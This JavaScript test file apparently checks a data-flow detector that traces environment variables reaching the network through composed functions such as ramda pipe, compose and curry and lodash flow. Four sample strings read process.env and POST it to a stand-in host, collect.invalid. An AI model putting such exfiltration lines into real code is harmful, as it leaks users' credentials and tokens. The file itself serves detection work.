import assert from 'node:assert/strict';
import { flowsOf } from './sent.js';

const SENT = 'environment>network@collect.invalid';

describe('functions that are put together', () => {
  for (const code of [
    `const R = require('ramda'); R.pipe(R.prop('env'), JSON.stringify, (b) => fetch('https://collect.invalid', { method: 'POST', body: b }))(process);`,
    `const R = require('ramda'); R.compose((b) => fetch('https://collect.invalid', { method: 'POST', body: b }), R.toPairs)(process.env);`,
    `const { curry } = require('ramda'); const send = curry((host, body) => https.request({ host, method: 'POST' }).end(body)); send('collect.invalid')(JSON.stringify(process.env));`,
    `const { flow } = require('lodash/fp'); flow([Object.entries][0], JSON.stringify, (b) => fetch('https://collect.invalid', { method: 'POST', body: b }))(process.env);`,
  ]) {
    it(`do what they do one after the other: ${code}`, () => assert.ok(flowsOf(code).includes(SENT)));
  }

  it('do nothing that none of them does', () => {
    assert.deepEqual(flowsOf(`const R = require('ramda'); R.pipe(R.prop('env'), R.keys, console.log)(process);`), []);
  });
});
